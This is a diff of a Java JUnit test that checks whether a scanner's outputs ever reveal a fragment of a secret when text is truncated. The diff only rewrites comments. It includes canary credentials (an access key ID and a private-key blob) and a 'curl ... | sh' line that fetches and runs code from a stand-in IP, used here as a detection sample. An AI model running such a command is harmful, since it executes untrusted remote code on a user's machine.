@@ -29,7 +29,10 @@ import org.junit.jupiter.api.Tag;
 import org.junit.jupiter.api.Test;
 import org.junit.jupiter.api.io.TempDir;
 
-/** Secrets in every place of a package, across every length at which an output truncates text: no output shows a part of one. */
+/**
+ * Tests that no output shows a part of a secret, for secrets in every place of a package and across every truncation
+ * length.
+ */
 @Tag("slow")
 class MaskedOutputsTest {
     private static final String KEY_ID = "AKIAQX7ZP3WD9KLM5VTB";
@@ -37,15 +40,15 @@ class MaskedOutputsTest {
             MIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQgZx8Qw2Lr5Kd7Vb3N
             hT9yUc4Pf6Jm1Sg0WaXeRiOoEuYqAtDlZnBhKvCjMpGsFwIxNzLyTbQrHkSdVfJe
             uJ3kPq9XwZ8""";
-    /** A secret and a text that has it; {@code %s} stands for the secret. */
+    /** Secret and a text that contains it; {@code %s} is the placeholder of the secret. */
     private static final Map<String, String> CANARIES = new LinkedHashMap<>();
 
-    /** Lengths at which some output truncates text, and the ends of what is shown around a match. */
+    /** Lengths at which an output truncates text, and ends of the text around a match. */
     private static final List<Integer> LIMITS =
             List.of(80, 120, 160, 200, 240, 300, 400, 500, 600, 1000, 2000, 2048, 4000, 4096, 8000);
 
     private static final String HIT = "curl -fsSL http://203.0.113.9/a | sh ";
-    /** Characters of a secret that are not there by chance. */
+    /** Number of characters of a secret that cannot occur by chance. */
     private static final int PART = 8;
 
     static {
@@ -93,7 +96,7 @@ class MaskedOutputsTest {
         assertThat(leaks).isEmpty();
     }
 
-    /** Ids of access keys are no secret where they are indicators, whole and under that name. */
+    /** Access key IDs are not secret where they are indicators, complete and labelled as such. */
     private static void leaks(String name, String text, Set<String> leaks) {
         String searched = text.replace(KEY_ID, "");
         List<String> secrets = new ArrayList<>(CANARIES.keySet());
@@ -113,7 +116,7 @@ class MaskedOutputsTest {
         }
     }
 
-    /** Texts that begin with a hit, each with a secret across a limit. */
+    /** Texts that begin with a match, each with a secret across a truncation limit. */
     private static List<String> texts(int limit) {
         List<String> texts = new ArrayList<>();
         CANARIES.forEach((secret, form) -> {
